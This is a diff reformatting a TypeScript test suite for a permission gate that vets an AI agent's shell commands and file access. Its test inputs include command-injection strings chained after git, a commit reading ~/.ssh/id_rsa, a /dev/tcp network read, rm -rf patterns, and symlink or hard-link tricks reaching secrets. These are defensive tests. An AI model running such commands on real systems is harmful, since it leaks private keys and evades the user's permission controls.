@@ -44,7 +44,14 @@ describe('PermissionGate: Bash allow rules', () => {
   it('allows a line only when every subcommand matches an allow rule', () => {
     const { run } = gate({ allow: ['Bash(git *)'] });
     expect(run('git status && git log')).toMatchObject({ verdict: 'allow', level: 'P7' });
-    for (const command of ['git status && touch ../x', 'git log $(touch ../x)', 'git log `touch ../x`', 'git status; touch ../x', 'git status | touch ../x', 'git status\ntouch ../x']) {
+    for (const command of [
+      'git status && touch ../x',
+      'git log $(touch ../x)',
+      'git log `touch ../x`',
+      'git status; touch ../x',
+      'git status | touch ../x',
+      'git status\ntouch ../x',
+    ]) {
       expect(run(command), command).toMatchObject({ verdict: 'ask', level: 'P8' });
     }
   });
@@ -77,7 +84,12 @@ describe('PermissionGate: Bash allow rules', () => {
     const { run } = gate({ allow: ['Bash(git *)'] });
     expect(run('git apply < fix.patch')).toMatchObject({ verdict: 'allow' });
     expect(run('git apply < /dev/null')).toMatchObject({ verdict: 'allow' });
-    for (const command of ['git commit -F - < ~/.ssh/id_rsa', 'git apply < /dev/tcp/example.com/80', 'git apply < ../x', 'git apply < "$P"']) {
+    for (const command of [
+      'git commit -F - < ~/.ssh/id_rsa',
+      'git apply < /dev/tcp/example.com/80',
+      'git apply < ../x',
+      'git apply < "$P"',
+    ]) {
       expect(run(command), command).toMatchObject({ verdict: 'ask' });
     }
   });
@@ -88,12 +100,19 @@ describe('PermissionGate: Bash allow rules', () => {
   });
 
   it('denies a redirection into a file an Edit deny rule covers', () => {
-    expect(gate({ allow: ['Bash(echo *)'], deny: ['Edit(secrets/**)'] }).run('echo x > secrets/key')).toMatchObject({ verdict: 'deny', level: 'P1' });
+    expect(gate({ allow: ['Bash(echo *)'], deny: ['Edit(secrets/**)'] }).run('echo x > secrets/key')).toMatchObject({
+      verdict: 'deny',
+      level: 'P1',
+    });
   });
 
   it('asks when a deny rule might match but cannot be checked', () => {
     const { run } = gate({ allow: ['Bash'], deny: ['Bash(rm *)'] });
-    expect(run('$CMD -rf x')).toMatchObject({ verdict: 'ask', level: 'P6', reason: expect.stringContaining('cannot tell whether deny rule Bash(rm *)') });
+    expect(run('$CMD -rf x')).toMatchObject({
+      verdict: 'ask',
+      level: 'P6',
+      reason: expect.stringContaining('cannot tell whether deny rule Bash(rm *)'),
+    });
     expect(run('echo "unterminated; rm -rf x')).toMatchObject({ verdict: 'deny', level: 'P1' });
     expect(run('echo $HOME')).toMatchObject({ verdict: 'allow' });
   });
@@ -134,22 +153,36 @@ describe('PermissionGate: protected files, physically', () => {
   it('denies file tools a hard-linked file whose other name is outside', () => {
     linkSync(join(base, 'outside', 'secret.txt'), join(ws, 'notes.txt'));
     const { tool } = gate({ mode: 'bypassPermissions' });
-    expect(tool(read, { file_path: join(ws, 'notes.txt') })).toMatchObject({ verdict: 'deny', level: 'P0', reason: expect.stringContaining('hard links') });
+    expect(tool(read, { file_path: join(ws, 'notes.txt') })).toMatchObject({
+      verdict: 'deny',
+      level: 'P0',
+      reason: expect.stringContaining('hard links'),
+    });
     expect(tool(write, { file_path: join(ws, 'notes.txt'), content: 'x' })).toMatchObject({ verdict: 'deny', level: 'P0' });
   });
 
   it('denies a path that cannot be resolved, and does not grant a redirection to one', () => {
     symlinkSync(join(ws, 'loop-b'), join(ws, 'loop-a'));
     symlinkSync(join(ws, 'loop-a'), join(ws, 'loop-b'));
-    expect(gate({ mode: 'bypassPermissions' }).tool(write, { file_path: join(ws, 'loop-a', 'x'), content: '' })).toMatchObject({ verdict: 'deny', level: 'P0' });
+    expect(gate({ mode: 'bypassPermissions' }).tool(write, { file_path: join(ws, 'loop-a', 'x'), content: '' })).toMatchObject({
+      verdict: 'deny',
+      level: 'P0',
+    });
     expect(gate({ allow: ['Bash(git *)'], mode: 'acceptEdits' }).run('git log > loop-a/x')).toMatchObject({ verdict: 'ask' });
   });
 
   it('matches file rules on the path as given and as resolved', () => {
     symlinkSync(join(ws, '.env'), join(ws, 'src', 'config'));
-    expect(gate({ deny: ['Read(**/.env*)'] }).tool(read, { file_path: join(ws, 'src', 'config') })).toMatchObject({ verdict: 'deny', level: 'P1' });
+    expect(gate({ deny: ['Read(**/.env*)'] }).tool(read, { file_path: join(ws, 'src', 'config') })).toMatchObject({
+      verdict: 'deny',
+      level: 'P1',
+    });
     // Edit(src/**) does not grant a file that src/config really is (.env, outside src).
-    expect(gate({ allow: ['Edit(src/**)'] }).tool(edit, { file_path: join(ws, 'src', 'config'), old_string: 'a', new_string: 'b' })).toMatchObject({ verdict: 'ask' });
-    expect(gate({ allow: ['Edit(src/**)'] }).tool(edit, { file_path: join(ws, 'src', 'a.ts'), old_string: 'a', new_string: 'b' })).toMatchObject({ verdict: 'allow' });
+    expect(
+      gate({ allow: ['Edit(src/**)'] }).tool(edit, { file_path: join(ws, 'src', 'config'), old_string: 'a', new_string: 'b' }),
+    ).toMatchObject({ verdict: 'ask' });
+    expect(
+      gate({ allow: ['Edit(src/**)'] }).tool(edit, { file_path: join(ws, 'src', 'a.ts'), old_string: 'a', new_string: 'b' }),
+    ).toMatchObject({ verdict: 'allow' });
   });
 });
